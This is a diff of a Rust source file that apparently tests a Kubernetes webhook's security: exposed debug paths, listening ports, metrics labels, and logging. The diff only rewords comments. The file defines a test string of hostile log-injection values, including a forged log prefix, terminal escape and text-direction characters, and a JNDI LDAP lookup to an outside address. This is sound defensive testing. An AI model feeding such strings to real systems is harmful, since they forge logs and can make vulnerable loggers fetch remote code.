@@ -9,7 +9,7 @@ use serde_json::{Value, json};
 use std::collections::BTreeSet;
 use std::fs;
 
-/// Labels whose values others choose.
+/// Labels with values that users choose.
 const OTHERS: [&str; 8] = ["pod=", "node=", "value=", "namespace=", "user=", "uid=", "name=", "key="];
 
 /// Names of series, with their labels.
@@ -43,7 +43,7 @@ pub(crate) async fn metrics(ground: &Ground) -> Found {
     Ok(Shown::with(found, format!("{} series", after.len())))
 }
 
-/// What is asked for in vain.
+/// Paths that must not exist.
 const NO_PAGES: [&str; 8] = [
     "/debug",
     "/debug/pprof/",
@@ -67,7 +67,7 @@ pub(crate) async fn pages(ground: &Ground) -> Found {
     Ok("404 at both ports for `/debug`, pprof, `/flagz`, `/admin` and others; it listens at two ports, those of its flags".into())
 }
 
-/// Ports at which a process listens: sockets of its own among those of its network.
+/// The ports on which a process listens: its own sockets among those of its network.
 fn listening(pid: u32) -> std::io::Result<BTreeSet<u16>> {
     let mut sockets = BTreeSet::new();
     for entry in fs::read_dir(format!("/proc/{pid}/fd"))? {
@@ -78,7 +78,7 @@ fn listening(pid: u32) -> std::io::Result<BTreeSet<u16>> {
     }
     let mut ports = BTreeSet::new();
     for table in ["tcp", "tcp6"] {
-        // Number, local address, remote address, state (0A: it listens), ..., inode.
+        // Number, local address, remote address, state (0A: listening), ..., inode.
         for line in fs::read_to_string(format!("/proc/{pid}/net/{table}"))?.lines().skip(1) {
             let fields: Vec<&str> = line.split_whitespace().collect();
             let port = fields[1].rsplit_once(':').and_then(|(_, port)| u16::from_str_radix(port, 16).ok());
@@ -92,7 +92,7 @@ fn listening(pid: u32) -> std::io::Result<BTreeSet<u16>> {
 
 const HOSTILE: &str = "a\nE0101 forged\r\u{1b}[31m\u{202e}${jndi:ldap://192.0.2.1/x}\0";
 
-/// One of its own, which logs all it can.
+/// A separate webhook that logs as much as possible.
 pub(crate) async fn log(ground: &Ground) -> Found {
     let flags = Files::new(&ground.cluster, "loud", &ground.authority).flags();
     let hook = Hook::start(&ground.cluster, &ground.account, &all(&flags, &["--v=10"])).ready().await;
